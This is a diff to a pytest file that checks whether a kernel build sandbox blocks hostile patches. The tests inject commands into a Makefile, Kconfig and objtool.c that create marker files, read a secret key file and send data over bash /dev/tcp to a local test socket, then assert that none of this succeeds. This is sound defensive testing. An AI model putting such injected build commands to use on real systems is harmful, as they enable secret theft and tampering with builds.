@@ -9,6 +9,8 @@ from __future__ import annotations
 
 import hashlib
 import os
+import select
+import socket
 import subprocess
 from collections.abc import Iterator, Mapping
 from dataclasses import dataclass
@@ -249,23 +251,35 @@ def test_without_a_sandbox_a_series_of_others_is_refused(
     [
         ("Makefile", 9, "$(shell TRY; echo x >> $(CURDIR)/kernel/freezer.c)\n$(error stop)"),
         ("init/Kconfig", 2, "$(shell,TRY)\n$(error-if,y,stop)"),
+        pytest.param(
+            "tools/objtool/objtool.c",
+            145,
+            '\tfprintf(stderr, "error: stop\\n");\n\treturn system("TRY") ? 3 : 4;',
+            marks=pytest.mark.full,
+        ),
     ],
 )
-def test_linux_with_a_shell_in_a_makefile(tmp_path: Path, file: str, line: int, text: str) -> None:
+def test_linux_with_a_makefile_or_a_program_of_the_build_that_tries(
+    tmp_path: Path, file: str, line: int, text: str
+) -> None:
     sources = Sources(cache_dir(), SilentReporter())
     tree = sources.tree(sources.identify("debian:6.12"))
     (tmp_path / "key").write_text(SECRET)
     before = hashlib.sha256((tree / "kernel/freezer.c").read_bytes()).hexdigest()
     lines = (tree / file).read_text().splitlines(keepends=True)
-    evil = text.replace("TRY", f"touch {tmp_path}/{MARK} /{MARK}; cat {tmp_path}/key >&2") + "\n"
+    network = socket.create_server(("127.0.0.1", 0))
+    send = f"bash -c 'echo x > /dev/tcp/127.0.0.1/{network.getsockname()[1]}'"
+    evil = text.replace("TRY", f"touch {tmp_path}/{MARK} /{MARK}; {send}; cat {tmp_path}/key >&2") + "\n"
     patch = tmp_path / "evil.patch"
     context = "".join(f" {each}" for each in lines[line - 1 : line + 2])
     added = "".join(f"+{each}" for each in evil.splitlines(keepends=True))
     sizes = f"@@ -{line},3 +{line},{3 + len(evil.splitlines())} @@"
     patch.write_text(f"Subject: evil\n\n---\n--- a/{file}\n+++ b/{file}\n{sizes}\n{added}{context}")
     requests = [KernelRequest("base", "debian:6.12"), KernelRequest("e", "debian:6.12", (patch,), "evil")]
-    with pytest.raises(BuildError, match="did not build") as caught:
+    with pytest.raises(BuildError, match=r"did not build:\n(.*\n)*.*/key: No such file") as caught:
         build.ensure(requests, cache_dir=cache_dir(), reporter=SilentReporter())
     assert SECRET not in caught.value.message
     assert not (tmp_path / MARK).exists() and not Path("/", MARK).exists()
+    assert select.select([network], [], [], 0)[0] == []
+    network.close()
     assert hashlib.sha256((tree / "kernel/freezer.c").read_bytes()).hexdigest() == before
